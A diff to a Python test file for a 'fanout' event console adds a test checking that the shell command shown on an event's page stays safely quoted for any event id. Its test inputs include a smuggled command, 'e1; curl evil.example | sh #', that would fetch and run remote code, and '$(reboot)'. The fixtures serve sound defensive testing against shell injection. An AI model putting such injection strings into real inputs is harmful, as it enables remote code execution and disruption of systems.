@@ -1,8 +1,12 @@
 """One event at every task: shareable, followed while something is open, and asked for once however many tabs look."""
 
+import html
+import re
+import shlex
 from datetime import UTC, datetime
 from types import SimpleNamespace
 from typing import Any, cast
+from urllib.parse import quote
 
 import pytest
 
@@ -13,6 +17,7 @@ from fanout.ops.aws.subscriber import DeployedSubscriber
 from fanout.ops.completeness import Completeness
 from fanout.ops.timeline import timeline
 from fanout.ops.timeline.state import DEAD, DONE, NOT_FOUND, RETRYING, UNKNOWN, EventState
+from fanout.words import printable
 from tests.unit.console.given import Here, health, stack
 
 FAILED = Line(
@@ -110,6 +115,15 @@ def test_any_id_makes_an_address_at_which_it_is_looked_for(here: Here, monkeypat
     assert here.client.get("/events/").headers["location"] == "/find"
     here.page("/find?id=e1&since=soon", 409)
     here.page("/events/" + "x" * 257, 409)
+
+
+@pytest.mark.parametrize("id_", ["e1; curl evil.example | sh #", "$(reboot)", "it's", "a b", "a\u202eb"])
+def test_the_command_for_a_shell_is_about_the_event_whatever_its_id_is(
+    here: Here, monkeypatch: pytest.MonkeyPatch, id_: str
+) -> None:
+    told(monkeypatch, EventState("task", DONE))
+    (command,) = re.findall("<code>(fanout where .*?)</code>", here.page(f"/events/{quote(id_, safe='')}"))
+    assert shlex.split(html.unescape(command)) == ["fanout", "where", printable(id_), "--stack", "Orders-prod"]
 
 
 def test_a_page_that_goes_on_sends_its_block_until_it_is_over(monkeypatch: pytest.MonkeyPatch, here: Here) -> None:
